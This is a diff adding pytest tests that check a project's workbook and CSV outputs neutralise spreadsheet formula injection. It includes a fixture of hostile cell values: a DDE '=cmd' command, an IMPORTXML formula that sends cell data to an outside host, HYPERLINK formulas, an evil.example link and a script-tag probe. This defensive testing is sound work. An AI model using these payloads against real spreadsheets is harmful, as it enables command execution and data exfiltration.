@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -162,3 +163,98 @@ def test_rate_table_still_shows_the_names_as_given(tmp_path):
     out = subprocess.run([*HMIP, "rate", str(path)], capture_output=True, text=True)
     assert out.returncode == 0, out.stderr
     assert "\n=1+1\n" in out.stdout
+
+
+def symbols_only(names: list[str]) -> list[str]:
+    return [n for n in names if not re.search(r"[A-Za-z0-9]", n)]
+
+
+def test_rate_refuses_a_pdu_name_of_symbols_only_naming_each_row(tmp_path):
+    names = symbols_only(as_loaded(hostile_names()))
+    assert {"=", "+", "-", "@"} <= set(names)
+    path = _counts_file(tmp_path / "symbols.csv", names)
+    out = subprocess.run([*HMIP, "rate", str(path)], capture_output=True, text=True)
+    assert out.returncode == 2 and "Traceback" not in out.stderr
+    for i, name in enumerate(names):
+        assert (
+            f"row {3 * i + 1} (line {3 * i + 2}), column 'pdu': '{name}' is not a PDU name: "
+            "it has no letter or digit" in out.stderr
+        )
+
+
+# --- The scrutiny pack's workbook and CSVs --------------------------------------------------------
+HOSTILE_PROGRESS = [
+    ('=HYPERLINK("http://x","click")', "@SUM(A1)"),
+    ("+1+1 audit", "-2+3 cases"),
+    ("=cmd|' /C calc'!A0", "\t=1 evidence"),
+    ("@cmd plan", '=IMPORTXML(CONCAT("http://x/?",A1),"//a")'),
+    ("-=1 recruit", "http://evil.example/click"),
+    ("<script>alert(1)</script>", "'=already quoted"),
+]
+
+
+@pytest.fixture(scope="module")
+def hostile_data(tmp_path_factory):
+    """The pack's data (workbook and CSVs) from a case file with a PDU per hostile name, and a
+    progress file with hostile actions and evidence: prepare() and write_data() only (no PDF)."""
+    from hmip.analyses import scrutiny_pack as sp
+    from hmip.build.workbook import write_data
+
+    out = tmp_path_factory.mktemp("hostile")
+    names = [n for n in as_loaded(hostile_names()) if n not in symbols_only([n])]
+    src = list(
+        csv.reader((ROOT / "data" / "simulated_cases_london_2022.csv").open(encoding="utf-8"))
+    )
+    header, body = src[0], src[1:]
+    template = [r for r in body if r[1] == "Newham"]
+    cases = out / "analyst_cases.csv"
+    with cases.open("w", newline="", encoding="utf-8") as fh:
+        w = csv.writer(fh, lineterminator="\n")
+        w.writerow(header)
+        w.writerows(body)
+        for i, name in enumerate(names):
+            w.writerows([f"H{i:02d}-{j:03d}", name, *r[2:]] for j, r in enumerate(template))
+    progress = out / "progress.csv"
+    with progress.open("w", newline="", encoding="utf-8") as fh:
+        w = csv.writer(fh, lineterminator="\n")
+        w.writerow(["pdu", "recommendation", "action", "status", "evidence", "date"])
+        for i, (action, evidence) in enumerate(HOSTILE_PROGRESS, start=1):
+            w.writerow(["Lewisham and Bromley", i, action, "at risk", evidence, "2023-06"])
+    pack = sp.prepare(cases_path=str(cases), progress_path=str(progress), draws=1000)
+    paths = write_data(pack, out / "data")
+    return names, paths
+
+
+def _strip(value: str) -> str:
+    return value.strip()
+
+
+def test_the_workbook_stores_every_hostile_text_as_text(hostile_data):
+    from openpyxl import load_workbook
+
+    names, paths = hostile_data
+    wb = load_workbook(paths[0])
+    cells = [(ws.title, c) for ws in wb for row in ws.iter_rows() for c in row]
+    formulas = [(t, c.coordinate, c.value) for t, c in cells if c.data_type == "f"]
+    assert formulas == []
+    texts = {c.value for _, c in cells if isinstance(c.value, str)}
+    assert set(names) <= texts  # every name is there, as given
+    for action, evidence in HOSTILE_PROGRESS:
+        assert action in texts and _strip(evidence) in texts
+    links = [(t, c.hyperlink) for t, c in cells if c.hyperlink is not None]
+    assert links and all(h.target is None and h.location for _, h in links)  # contents only
+
+
+def test_the_packs_csvs_quote_every_formula_like_cell(hostile_data):
+    names, paths = hostile_data
+    csvs = [p for p in paths if p.suffix == ".csv"]
+    assert len(csvs) >= 9
+    seen = set()
+    for path in csvs:
+        with path.open(newline="", encoding="utf-8") as fh:
+            for row in csv.reader(fh):
+                assert [c for c in row if live(c)] == [], path.name
+                seen.update(restore_cell(c) for c in row)
+    assert set(names) <= seen
+    for action, evidence in HOSTILE_PROGRESS:
+        assert action in seen and _strip(evidence) in seen
